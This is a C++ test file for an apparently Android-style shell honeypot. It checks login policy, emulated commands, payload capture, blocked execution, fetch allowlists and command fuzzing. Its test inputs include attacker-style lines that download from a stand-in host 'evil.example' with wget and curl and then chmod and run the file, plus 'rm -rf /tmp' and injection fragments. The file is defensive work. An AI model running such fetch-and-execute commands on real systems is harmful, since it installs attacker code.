#include <doctest.h>

#include <random>

#include "core/artifacts.hpp"
#include "core/sha256.hpp"
#include "traps/interpreter.hpp"
#include "traps/shell_trap.hpp"
#include "vfs/overlay.hpp"

using namespace droidpot;
using namespace droidpot::shell;

namespace {

std::shared_ptr<const vfs::FsImage> shell_image() {
    std::string manifest = R"JSON([
      {"path": "/system/bin/ls", "kind": "file", "mode": "0755"},
      {"path": "/system/bin/sh", "kind": "file", "mode": "0755"},
      {"path": "/etc/hostname", "kind": "file"},
      {"path": "/sdcard/DCIM/photo1.jpg", "kind": "file"},
      {"path": "/sdcard/DCIM/photo2.jpg", "kind": "file"},
      {"path": "/proc/cpuinfo", "kind": "file"},
      {"path": "/data/local", "kind": "dir"},
      {"path": "/tmp", "kind": "dir"},
      {"path": "/root", "kind": "dir"}
    ])JSON";
    vfs::ManifestError error;
    auto image = vfs::load_base_image(manifest, &error);
    REQUIRE_MESSAGE(image, error.message);
    return *image;
}

struct Harness {
    std::shared_ptr<const vfs::FsImage> image = shell_image();
    vfs::OverlayFs fs{image};
    ArtifactStore artifacts;
    StubFetcher fetcher{{{"http://evil.example/bot", "MALWARE"},
                         {"http://evil.example/big", std::string(17 * 1024 * 1024, 'x')}}};
    ManualClock clock{1351756800000};
    SessionRegistry registry{clock};
    std::shared_ptr<SessionHandle> session;
    std::unique_ptr<ShellInterpreter> interp;

    Harness() {
        AttackEvent event;
        event.service = Service::shell;
        event.src_ip = *IpAddr::parse("198.51.100.7");
        event.src_port = 40000;
        event.timestamp = clock.now_ms();
        session = registry.open_session(event, nullptr);
        interp = std::make_unique<ShellInterpreter>(fs, artifacts, fetcher, InterpreterConfig{},
                                                    clock, session);
    }
    CommandResult run(const std::string& line) { return interp->interpret(line); }
};

} // namespace

TEST_CASE("login policy: membership, quota, rejection") {
    CredentialPolicy policy;
    policy.accepted = {{"root", "1234"}};
    policy.accept_after_attempts = 3;

    CHECK(handle_login("root", "1234", policy, 1).result == LoginOutcome::Result::granted);
    CHECK(handle_login("admin", "x", policy, 1).result == LoginOutcome::Result::rejected);
    CHECK(handle_login("root", "wrong", policy, 2).result == LoginOutcome::Result::rejected);
    CHECK(handle_login("root", "wrong", policy, 3).result ==
          LoginOutcome::Result::granted_by_attempt_quota);

    CredentialPolicy no_quota;
    no_quota.accepted = {{"root", "1234"}};
    no_quota.accept_after_attempts = 0;
    CHECK(handle_login("root", "wrong", no_quota, 50).result == LoginOutcome::Result::rejected);
}

TEST_CASE("interpreter basics") {
    Harness h;

    auto uname = h.run("uname -a");
    CHECK(uname.output.find("Linux localhost 2.6") != std::string::npos);
    CHECK(uname.output.find("armv7l") != std::string::npos);
    CHECK(uname.exit_status == 0);

    CHECK(h.run("id").output == "uid=0(root) gid=0(root) groups=0(root)");
    CHECK(h.run("whoami").output == "root");
    CHECK(h.run("hostname").output == "android");
    CHECK(h.run("pwd").output == "/");

    auto ls = h.run("ls /sdcard/DCIM");
    CHECK(ls.output == "photo1.jpg\nphoto2.jpg");

    auto unknown = h.run("nmap -sS 10.0.0.1");
    CHECK(unknown.output == "nmap: command not found");
    CHECK(unknown.exit_status == 127);

    auto exited = h.run("exit");
    CHECK(exited.exit_requested);
}

TEST_CASE("interpreter filesystem commands") {
    Harness h;

    CHECK(h.run("cd /data/local").exit_status == 0);
    CHECK(h.run("pwd").output == "/data/local");
    CHECK(h.run("cd /nonexistent").exit_status == 1);

    CHECK(h.run("mkdir work").exit_status == 0);
    CHECK(h.run("cd work && pwd").output == "/data/local/work");

    CHECK(h.run("echo hello > note.txt").exit_status == 0);
    CHECK(h.run("cat note.txt").output == "hello");
    CHECK(h.run("cat /etc/hostname /missing").exit_status == 1);

    CHECK(h.run("cp note.txt copy.txt; cat copy.txt").output == "hello");
    CHECK(h.run("mv copy.txt moved.txt").exit_status == 0);
    CHECK(h.run("cat copy.txt").exit_status == 1);

    CHECK(h.run("rm note.txt").exit_status == 0);
    CHECK(h.run("cat note.txt").exit_status == 1);
    CHECK(h.run("rm -rf /tmp").exit_status == 0);

    CHECK(h.run("touch marker").exit_status == 0);
    CHECK(h.run("ls").output.find("marker") != std::string::npos);

    auto history = h.run("history");
    CHECK(history.output.find("mkdir work") != std::string::npos);
}

TEST_CASE("download, execution prohibition, and artifacts") {
    Harness h;
    REQUIRE(h.run("cd /data/local").exit_status == 0);

    auto wget = h.run("wget http://evil.example/bot");
    CHECK(wget.exit_status == 0);
    CHECK(wget.output.find("'bot' saved [7/7]") != std::string::npos);

    // stored content-addressed
    CHECK(h.artifacts.contains(Sha256::of("MALWARE")));
    CHECK(h.run("cat bot").output == "MALWARE");

    // chmod +x then run it: denied through exec_check
    CHECK(h.run("chmod +x bot").exit_status == 0);
    auto exec = h.run("./bot");
    CHECK(exec.output == "sh: ./bot: permission denied");
    CHECK(exec.exit_status == 126);

    // absolute path too
    CHECK(h.run("/data/local/bot").exit_status == 126);
    // whitelisted base binary by path runs the emulated command
    CHECK(h.run("/system/bin/ls /sdcard/DCIM").output == "photo1.jpg\nphoto2.jpg");
    // missing path
    CHECK(h.run("./ghost").exit_status == 127);

    // same URL twice: one blob, two references
    h.run("wget -O bot2 http://evil.example/bot");
    CHECK(h.artifacts.blob_count() == 1);
    CHECK(h.artifacts.reference_count() == 2);

    // oversize fixture: error text, nothing stored
    auto big = h.run("wget http://evil.example/big");
    CHECK(big.exit_status != 0);
    CHECK(big.output.find("File too large") != std::string::npos);
    CHECK(h.artifacts.blob_count() == 1);

    // unknown URL: unreachable
    auto missing = h.run("wget http://other.example/x");
    CHECK(missing.exit_status != 0);

    // curl prints the body and stores the artifact
    auto curl = h.run("curl http://evil.example/bot");
    CHECK(curl.output == "MALWARE");
    CHECK(h.artifacts.reference_count() == 3);

    // transcript carries the artifact digests
    h.session->close();
    auto transcript = h.registry.transcript(h.session->session_id());
    REQUIRE(transcript);
    CHECK(transcript->artifact_digests.size() == 3);
    CHECK(transcript->artifact_digests[0] == Sha256::of("MALWARE"));
}

TEST_CASE("transcript records every command in order") {
    Harness h;
    h.run("ls /");
    h.run("cat /proc/cpuinfo");
    h.run("exit");
    h.session->close();
    auto t = h.registry.transcript(h.session->session_id());
    REQUIRE(t);
    REQUIRE(t->commands.size() == 3);
    CHECK(t->commands[0].input == "ls /");
    CHECK(t->commands[1].input == "cat /proc/cpuinfo");
    CHECK(t->commands[2].input == "exit");
}

TEST_CASE("determinism: identical input yields identical output") {
    const char* script[] = {"uname -a", "ls /sdcard/DCIM", "wget http://evil.example/bot",
                            "chmod +x bot", "./bot", "history"};
    std::string out1, out2;
    {
        Harness h;
        for (const char* line : script) out1 += h.run(line).output + "\n";
    }
    {
        Harness h;
        for (const char* line : script) out2 += h.run(line).output + "\n";
    }
    CHECK(out1 == out2);
}

// No escape: whatever the attacker types, the host filesystem under the
// test's working directory is never touched. The interpreter only holds an
// OverlayFs, so the check is that random command fuzzing never crashes and
// never produces host paths in overlay state.
TEST_CASE("command fuzzing is contained") {
    Harness h;
    std::mt19937_64 rng(31);
    const char* fragments[] = {"ls",   "cd",    "..",   "/",    ";",     "&&",  ">",
                               "rm",   "-rf",   "cat",  "echo", "chmod", "+x",  "wget",
                               "http", "'",     "\"",   "a b",  "\x01",  "\xff", "tar",
                               "xzf",  "unzip", "touch", "mv",  "cp",    "$((", "`id`"};
    for (int i = 0; i < 500; i++) {
        std::string line;
        int n = 1 + static_cast<int>(rng() % 6);
        for (int k = 0; k < n; k++) {
            line += fragments[rng() % (sizeof(fragments) / sizeof(fragments[0]))];
            line += " ";
        }
        auto r = h.run(line);
        (void)r;
    }
    // the overlay never grew beyond its cap and cwd stayed absolute
    CHECK(h.fs.delta_bytes() <= vfs::OverlayFs::kDefaultDeltaCap);
    REQUIRE_FALSE(h.fs.cwd().empty());
    CHECK(h.fs.cwd()[0] == '/');
}

TEST_CASE("live fetch is gated by scheme and allowlist") {
    LiveFetcher closed({});
    CHECK(closed.fetch("http://example.org/x").status == FetchResult::Status::disabled);

    LiveFetcher open({"example.org"});
    CHECK(open.fetch("https://example.org/x").status == FetchResult::Status::unsupported);
    CHECK(open.fetch("ftp://example.org/x").status == FetchResult::Status::unsupported);
    CHECK(open.fetch("not a url").status == FetchResult::Status::unreachable);
    CHECK(open.fetch("http://other.org/x").status == FetchResult::Status::disabled);

    DisabledFetcher off;
    CHECK(off.fetch("http://example.org/x").status == FetchResult::Status::disabled);
}

TEST_CASE("url parsing") {
    auto u = parse_url("http://evil.example:8080/a/b/bot.bin?x=1");
    REQUIRE(u);
    CHECK(u->host == "evil.example");
    CHECK(u->port == 8080);
    CHECK(u->path == "/a/b/bot.bin?x=1");
    CHECK(u->target_filename() == "bot.bin");
    CHECK(parse_url("http://h/")->target_filename() == "index.html");
    CHECK(parse_url("http://h")->target_filename() == "index.html");
    CHECK_FALSE(parse_url("gopher://h/x"));
    CHECK_FALSE(parse_url("http://"));
    CHECK_FALSE(parse_url("http://h:99999/"));
}

TEST_CASE("overlong lines are truncated") {
    Harness h;
    std::string big(20000, 'a');
    auto r = h.run("echo " + big);
    CHECK(r.output.size() <= ShellInterpreter::kMaxLine);
}
